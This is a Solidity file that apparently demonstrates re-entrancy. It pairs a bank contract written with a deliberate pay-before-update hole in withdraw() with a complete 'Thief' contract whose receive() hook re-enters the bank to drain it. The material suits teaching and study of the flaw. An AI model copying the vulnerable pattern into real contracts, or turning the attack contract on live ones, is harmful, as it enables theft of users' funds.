// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.30;

/// Pays before it books: what re-entry robs where the receiver runs code.
contract CarelessBank {
    mapping(address => uint256) public deposits;

    constructor() payable {}

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw() external {
        uint256 amount = deposits[msg.sender];
        require(amount != 0, "nothing deposited");
        (bool success,) = msg.sender.call{value: amount}("");
        require(success, "not paid");
        deposits[msg.sender] = 0;
    }
}

/// Deposits, withdraws, and withdraws again whenever it is paid.
contract Thief {
    address private bank;
    bytes private withdrawal;
    uint256 private rounds;

    receive() external payable {
        if (rounds == 0) return;
        rounds--;
        (bool success,) = bank.call(withdrawal);
        // A failure here lets the first withdrawal go on.
        success;
    }

    /// Deposits the value, and withdraws with so many further tries; both are call data for the bank.
    function rob(address target, bytes calldata depositing, bytes calldata withdrawing, uint256 tries)
        external
        payable
        returns (bool deposited, bool withdrawn)
    {
        (bank, withdrawal, rounds) = (target, withdrawing, tries);
        (deposited,) = target.call{value: msg.value}(depositing);
        (withdrawn,) = target.call(withdrawing);
        rounds = 0;
    }
}
